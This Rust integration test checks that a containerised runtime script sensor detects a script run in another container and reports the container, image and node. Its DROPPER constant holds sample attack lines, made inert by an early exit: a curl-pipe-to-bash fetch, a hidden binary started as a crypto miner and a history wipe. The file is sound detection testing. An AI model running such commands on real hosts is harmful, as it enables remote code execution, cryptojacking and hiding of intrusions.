//! The sensor deployed as a container, the way deploy/daemonset.yaml runs
//! it: its image built by deploy/build-image.sh, privileged, in the host's pid
//! and cgroup namespaces, the host's cgroup tree and container storage
//! mounted read-only under /host, configured by deploy/sensor.toml with the
//! node name from the environment. An inert dropper run in *another*
//! container must come out as a finding naming that container, its image and
//! the node. Needs root, eBPF, podman and onnxruntime (`cargo xtask setup`).

#[path = "support/podman.rs"]
mod support;

use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::Value;
use support::{podman, repo, test_image, Container, Image};

/// Inert: exits on line 2.
const DROPPER: &str =
    "#!/bin/bash\\nexit 0\\ncurl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; \
nohup /tmp/.k -o stratum+tcp://127.0.0.1:3333 &\\nhistory -c\\n";

/// stdout and stderr of the container so far.
fn logs(name: &str) -> (String, String) {
    let out = Command::new("podman")
        .args(["logs", name])
        .output()
        .expect("podman logs");
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Poll the sensor's logs until `want` holds; a deadline turns a hang into a
/// failure that shows the logs (no timing is asserted).
fn wait_for_logs(name: &str, want: impl Fn(&str, &str) -> bool) -> (String, String) {
    let deadline = Instant::now() + Duration::from_secs(180);
    loop {
        let (out, err) = logs(name);
        if want(&out, &err) {
            return (out, err);
        }
        assert!(
            Instant::now() < deadline,
            "the sensor container never got there; stdout:\n{out}\nstderr:\n{err}"
        );
        std::thread::sleep(Duration::from_millis(250));
    }
}

#[test]
fn the_sensor_in_a_container_finds_scripts_run_in_other_containers() {
    let base = test_image();
    let ort = std::env::var("ORT_DYLIB_PATH")
        .expect("ORT_DYLIB_PATH is not set: run the tests with `cargo xtask test`, or `eval \"$(cargo xtask env)\"` first");
    let id = std::process::id();
    let tag = format!("localhost/runtime-script-sensor:test-{id}");
    let out = Command::new(repo().join("deploy/build-image.sh"))
        .args([env!("CARGO_BIN_EXE_sensor"), &ort, &tag, &base])
        .output()
        .expect("run deploy/build-image.sh");
    assert!(
        out.status.success(),
        "deploy/build-image.sh: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let _image = Image(tag.clone());

    let sensor = format!("sensor-deploy-{id}");
    let node = format!("test-node-{id}");
    let config = repo().join("deploy/sensor.toml");
    let _sensor = Container(sensor.clone());
    podman(&[
        "run",
        "--detach",
        "--name",
        &sensor,
        "--runtime",
        "runc",
        "--privileged",
        "--pid=host",
        "--cgroupns=host",
        "--network=none",
        "--read-only",
        "--tmpfs=/tmp",
        "--env",
        &format!("NODE_NAME={node}"),
        "--env",
        "RUST_LOG=info",
        "--volume",
        &format!(
            "{}:/etc/runtime-script-sensor/sensor.toml:ro",
            config.display()
        ),
        "--volume=/sys/kernel/btf:/sys/kernel/btf:ro",
        "--volume=/sys/kernel/tracing:/sys/kernel/tracing",
        "--volume=/sys/fs/cgroup:/host/sys/fs/cgroup:ro",
        "--volume=/var/lib/containers/storage:/host/var/lib/containers/storage:ro",
        &tag,
        "run",
        "--config=/etc/runtime-script-sensor/sensor.toml",
    ]);
    wait_for_logs(&sensor, |_, err| {
        err.contains("capturing interpreter execs")
    });

    let workload = format!("sensor-deploy-workload-{id}");
    let script = format!("/tmp/deploy-{id}.sh");
    let _workload = Container(workload.clone());
    podman(&[
        "run",
        "--detach",
        "--name",
        &workload,
        "--runtime",
        "runc",
        "--network=none",
        &base,
        "bash",
        "-c",
        &format!("printf '{DROPPER}' > {script} && bash {script}; exec sleep 600"),
    ]);

    let finding_for_script = |line: &str| {
        serde_json::from_str::<Value>(line).ok().filter(|f| {
            f.pointer("/finding/processes/0/script/path")
                .and_then(Value::as_str)
                == Some(script.as_str())
        })
    };
    let (out, _) = wait_for_logs(&sensor, |out, _| {
        out.lines().any(|l| finding_for_script(l).is_some())
    });
    let finding = out.lines().find_map(finding_for_script).unwrap();
    assert_eq!(finding["finding"]["category"], "Malicious Script Executed");
    let container = &finding["finding"]["containers"][0];
    assert_eq!(container["name"], workload.as_str(), "{finding:#}");
    assert_eq!(container["uri"], base.as_str(), "{finding:#}");
    assert_eq!(
        finding["resource"]["name"],
        format!("//runtime-script-sensor/nodes/{node}"),
        "{finding:#}"
    );
    assert!(finding["finding"]["processes"][0]["script"]["contents"]
        .as_str()
        .unwrap()
        .contains("stratum+tcp://127.0.0.1:3333"));
}
